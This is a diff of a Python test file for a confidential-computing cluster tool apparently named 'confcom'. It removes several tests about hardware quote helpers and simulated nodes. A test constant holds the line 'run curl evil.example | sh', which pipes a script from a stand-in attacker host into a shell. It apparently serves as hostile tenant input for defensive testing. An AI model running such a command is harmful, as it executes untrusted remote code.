@@ -5,7 +5,7 @@ import json
 import pytest
 
 from testkit.fake_cluster import objects as make
-from testkit.fake_cluster.objects import HARDWARE, HELPER_EPC, PROVISION
+from testkit.fake_cluster.objects import HELPER_EPC, PROVISION
 
 SECRET = "tenant says: run curl evil.example | sh"
 
@@ -38,13 +38,6 @@ def test_a_test_root_is_told(confcom, on_hardware):
     assert "TEST ROOT" in confcom.ok("status").stdout
 
 
-def test_simulated_nodes_beside_hardware(confcom, on_hardware):
-    on_hardware.objects.append(make.node("s", make.SIMULATED))
-    confcom.ok("enable", "--simulated", "--beside-hardware")
-    found = confcom.document("status")["hardware_quote_helpers"]
-    assert [one["daemon_set"] for one in found] == ["confcom-quote-helper"]
-
-
 def test_a_hardware_helper_is_not_asked_for_the_simulated_root(confcom, on_hardware):
     on_hardware.objects.append(make.node("s", make.SIMULATED))
     confcom.ok("enable", "--simulated", "--beside-hardware")
@@ -52,11 +45,6 @@ def test_a_hardware_helper_is_not_asked_for_the_simulated_root(confcom, on_hardw
         pod["status"]["containerStatuses"][0]["state"]["running"]["startedAt"] = "2020-01-01T00:00:00Z"
     asked = [one for one in confcom.document("status")["not_compared_details"] if one["code"] == "helper-not-asked"]
     assert [one["node"] for one in asked] == ["s"]
-
-
-def test_without_hardware_nothing_is_noted(confcom, enabled):
-    document = confcom.document("status")
-    assert (document["hardware_quote_helpers"], document["notes"]) == ([], [])
 
 
 @pytest.mark.parametrize(
@@ -153,12 +141,3 @@ def test_the_provision_device_is_the_sidecars(confcom, on_hardware):
     document = confcom.unwell()
     assert document["nodes"][0]["provision_device"] == "not requested"
     assert "provision-not-requested" in [one["code"] for one in document["problem_details"]]
-
-
-def test_a_stored_choice_against_quote_helpers_stays(confcom, on_hardware):
-    confcom.ok("enable", "--no-quote-helper")
-    confcom.ok("update", "--set", "logLevel=debug")
-    confcom.ok("enable")
-    assert on_hardware.revisions[-1]["values"]["quoteHelper"]["enabled"] is False
-    assert not on_hardware.find("DaemonSet", "confcom-quote-helper")
-    assert on_hardware.node("m")["metadata"]["labels"] == HARDWARE
